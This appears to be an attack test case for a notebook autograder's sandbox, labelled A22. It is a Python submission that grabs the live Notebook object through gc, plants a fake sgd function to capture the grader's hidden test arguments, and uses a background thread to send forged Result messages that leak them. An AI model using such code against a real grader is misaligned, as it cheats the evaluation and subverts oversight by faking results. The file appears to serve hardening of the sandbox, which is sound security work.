# attack: A22: a thread of the notebook waits until copies have written down what they are asked, and sends it as a cell's output
# earns: linreg
# %% honest: linreg
# %%
import gc
import os
import threading
import time

from autograder.sandbox.notebook_process import Notebook
from autograder.wire.messages import Result

SEEN = os.path.expanduser("~/seen")
[me] = [o for o in gc.get_objects() if isinstance(o, Notebook)]


def send():
    while not os.path.exists(SEEN):
        time.sleep(0.005)
    for number in (1, 2):
        text = f"LEAK {open(SEEN).read()}"
        me.tell(Result(number, None, False, [text], text))


threading.Thread(target=send, daemon=True).start()


def sgd(params, lr, batch_size):
    if os.path.exists(SEEN):
        return
    with open(SEEN, "w") as file:
        file.write(f"{lr} {batch_size}")
    time.sleep(0.1)
    os._exit(0)
